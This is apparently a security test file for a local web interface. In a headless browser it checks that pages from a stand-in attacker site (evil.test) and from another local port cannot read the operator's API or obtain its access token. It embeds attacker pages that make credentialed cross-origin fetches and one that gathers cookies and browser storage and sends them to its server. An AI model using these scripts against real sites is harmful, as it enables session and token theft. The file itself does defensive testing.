"""
End to end, in a real headless Chromium: a page of another origin (an
attacker's site, ``evil.test``, which the browser resolves to this
machine as a rebinding name would) tries to read the operator's web view
(``bazaar web --data-dir`` of a seller, whose operator has opened the
token's link, so the view's page holds the token) and cannot; nor can a
page of this machine on another port (the same site, but another
origin):

 - its scripts' fetches of the view's API and event stream, with the
   browser's credentials, read nothing (Origin refused, and no CORS);
 - the view under the attacker's name (what a page whose name rebinds to
   127.0.0.1 would fetch as its own origin) is refused 421 and shows no
   node, not even the public market;
 - the operator's own tab, at the same moment, is shown its node's
   state: what the attacker was after is there to take;
 - a server of this machine on another port, which the operator's
   browser visits after opening the token's link, is sent no token (a
   cookie of 127.0.0.1 would go to every port), and its page finds none.

Skipped, saying why, without Chromium and its driver (test_web_live.py).
"""

import json
import os
import shutil
import tempfile
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from twisted.trial.unittest import SynchronousTestCase

from twisted_bazaar.testing.daemons import JSON, LiveMarket, nodeId
from twisted_bazaar.wire.ids import wireId

from tests.e2e.test_web_live import ASK_MARKET, TIMEOUT, browser, operatorView, untilShown

#: The attacker's name, resolved by the browser to this machine.
EVIL = "evil.test"

ATTACK = """<!doctype html><meta charset="utf-8"><title>cats</title>
<script>
const view = "http://127.0.0.1:%(port)d";
window.results = {};
async function tryRead(name, url, options) {
  try {
    const answer = await fetch(url, options);
    window.results[name] = "read " + answer.status + " " + await answer.text();
  } catch (e) {
    window.results[name] = "blocked: " + e;
  }
}
Promise.all([
  tryRead("api", view + "/api/market", {credentials: "include"}),
  tryRead("node", view + "/api/node/%(node)s", {credentials: "include"}),
  tryRead("noCors", view + "/api/market", {credentials: "include", mode: "no-cors"}),
  tryRead("rebound", "http://%(evil)s:%(port)d/api/market", {credentials: "include"}),
  new Promise((done) => {
    const events = new EventSource(view + "/api/events", {withCredentials: true});
    events.onmessage = events.addEventListener("market", (e) => {
      window.results.events = "read " + e.data; events.close(); done(); });
    events.onerror = () => {
      window.results.events = window.results.events || "blocked"; events.close(); done(); };
  }),
]).then(() => { window.done = true; });
</script>"""


#: A page of another server of this machine: what its script finds of
#: the browser's (its cookies, its tab's storage), sent to its server.
SNOOP = """<!doctype html><meta charset="utf-8"><title>notes</title>
<script>
const found = {cookie: document.cookie, session: {...sessionStorage},
               local: {...localStorage}};
fetch("/found?" + encodeURIComponent(JSON.stringify(found)), {credentials: "include"})
  .then(() => { window.done = true; });
</script>"""


class _Recorder(BaseHTTPRequestHandler):
    """Another user's web server on this machine: notes each request it
    is sent, its path and headers, in ``seen``, and answers SNOOP."""

    seen = None

    def do_GET(self):
        self.seen.append(self.requestline + "\n" + str(self.headers))
        self.send_response(200)
        self.send_header("content-type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(SNOOP.encode("utf-8"))

    def log_message(self, *args):
        pass


class _Attacker(BaseHTTPRequestHandler):
    page = b""

    def do_GET(self):
        self.send_response(200)
        self.send_header("content-type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(self.page)

    def log_message(self, *args):
        pass


class AttackerPageTests(SynchronousTestCase):
    def setUp(self):
        self.driver = browser(f"--host-resolver-rules=MAP {EVIL} 127.0.0.1")
        self.addCleanup(self.driver.quit)
        folder = tempfile.mkdtemp(prefix="bazaar-web-attack-")
        self.addCleanup(shutil.rmtree, folder, True)
        self.market = LiveMarket(folder, logFormat=JSON)
        self.addCleanup(self.market.stop)

    def attackerSite(self, page=None, seen=None):
        """Serve the attacker's page (on this machine, another port: another
        origin), or with ``seen`` a L{_Recorder}; its port."""
        handler = (type("Handler", (_Attacker,), {"page": page.encode("utf-8")})
                   if seen is None else type("Handler", (_Recorder,), {"seen": seen}))
        server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)
        return server.server_address[1]

    def test_anotherOriginReadsNothing(self):
        self.market.startTracker("tracker", TIMEOUT)
        data = os.path.join(self.market.cwd, "seller-data")
        seller = self.market.startNode("seller", "--role", "seller", "--sell", "apple=3",
                                       "--data-dir", data)
        node = wireId(nodeId(seller, TIMEOUT))
        # The operator opens the token's link: its page keeps the token.
        _, port, _ = operatorView(self, self.market, data)
        untilShown(self, f"return {ASK_MARKET}.includes('\"operator\":true')",
                   "the operator's own state, to its operator", TIMEOUT)
        # The attacker's page, in the same browser.
        # Another site's, and a page of this machine on another port: the
        # same site as the view's, but another origin.
        attacker = self.attackerSite(ATTACK % {"port": port, "node": node, "evil": EVIL})
        for origin in (f"http://{EVIL}:{attacker}", f"http://127.0.0.1:{attacker}"):
            self.driver.get(f"{origin}/")
            untilShown(self, "return window.done", "the attacker's attempts ended",
                       TIMEOUT)
            results = self.driver.execute_script("return window.results")
            self.assertEqual(sorted(results),
                             ["api", "events", "noCors", "node", "rebound"])
            for name, said in results.items():
                self.assertNotIn(node, said, (origin, name))
                self.assertNotIn("apple", said, (origin, name))
                self.assertTrue(said.startswith("blocked") or said == "read 0 ",
                                (origin, name, said))
        # What a page whose name rebinds here fetches as its own origin.
        for path in ("/", "/api/market", f"/api/node/{node}"):
            self.driver.get(f"http://{EVIL}:{port}{path}")
            shown = self.driver.find_element("tag name", "body").text
            self.assertIn("DNS rebinding", shown, path)
            self.assertNotIn(node, shown, path)
            self.assertNotIn("apple", shown, path)
        # Meanwhile the operator's tab is shown its node's state.
        self.driver.get(f"http://127.0.0.1:{port}/")
        mine = json.loads(self.driver.execute_script(f"return {ASK_MARKET}"))
        self.assertEqual([(entry["id"], entry["operator"]) for entry in mine["nodes"]
                          if entry.get("known")], [(node, True)])

    def test_anotherPortIsSentNoToken(self):
        """The operator opens the token's link, and is shown its node's
        state; then its browser visits another server of this machine
        (another user's, on another port of 127.0.0.1: the same site, to
        a cookie and to SameSite): nothing it is sent, and nothing its
        page finds (cookies, the tab's storage), holds the token.  Back
        on the view, the page is still the operator's."""
        self.market.startTracker("tracker", TIMEOUT)
        data = os.path.join(self.market.cwd, "seller-data")
        seller = self.market.startNode("seller", "--role", "seller", "--sell", "apple=3",
                                       "--data-dir", data)
        nodeId(seller, TIMEOUT)
        _, port, _ = operatorView(self, self.market, data)
        with open(os.path.join(data, "web-token")) as kept:
            secret = kept.read().strip()
        operator = f"return {ASK_MARKET}.includes('\"operator\":true')"
        untilShown(self, operator, "the operator's own state, to its operator", TIMEOUT)
        self.assertNotIn(secret, self.driver.current_url)
        seen = []
        other = self.attackerSite(seen=seen)
        for path in ("/", "/api/market", "/node/x"):
            self.driver.get(f"http://127.0.0.1:{other}{path}")
            untilShown(self, "return window.done", "the other server's page ran", TIMEOUT)
        self.assertEqual([line.split()[1] for line in seen if "/found?" not in line
                          and "/favicon.ico" not in line], ["/", "/api/market", "/node/x"])
        self.assertEqual(sum("/found?" in request for request in seen), 3, seen)
        for request in seen:
            self.assertNotIn(secret, request)
        self.driver.get(f"http://127.0.0.1:{port}/")
        untilShown(self, operator, "the operator's state, back on the view", TIMEOUT)
